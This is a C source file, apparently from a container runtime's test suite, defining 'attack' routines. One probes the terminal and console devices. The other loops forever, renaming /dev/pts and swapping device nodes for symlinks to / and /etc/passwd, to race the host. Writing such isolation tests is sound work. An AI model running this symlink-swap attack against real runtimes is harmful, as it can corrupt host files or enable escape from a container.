// SPDX-License-Identifier: Apache-2.0
/* Terminals, and a /dev that does not hold still. */
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "attack.h"

/* Which file systems standard input and /dev/console lie on. */
int attack_terminal(int argc, char **argv) {
    (void) argc;
    (void) argv;
    struct stat in, console = {.st_dev = 0};
    if (fstat(0, &in) < 0 || !isatty(0)) return 1;
    (void) stat("/dev/console", &console);
    printf("%lld %lld\n", (long long) in.st_dev, (long long) console.st_dev);
    return 0;
}

static void replace(const char *name, const char *target) {
    (void) unlink(name);
    if (symlink(target, name) < 0) perror(name);
}

/* All that its root may do to its own /dev, for ever. The mounts there cannot be moved; what is
 * beside them can. */
int attack_move_dev(int argc, char **argv) {
    (void) argc;
    (void) argv;
    static const char *const names[] = {"/dev/ptmx", "/dev/console", "/dev/tty", "/dev/null"};
    (void) mkdir("/dev/decoy", 0755);
    replace("/dev/decoy/ptmx", "/");
    printf("moving\n");
    (void) fflush(stdout);
    for (;;) {
        (void) rename("/dev/pts", "/dev/pts2");
        (void) rename("/dev/decoy", "/dev/pts");
        for (size_t i = 0; i < sizeof names / sizeof *names; i++) replace(names[i], "/etc/passwd");
    }
}
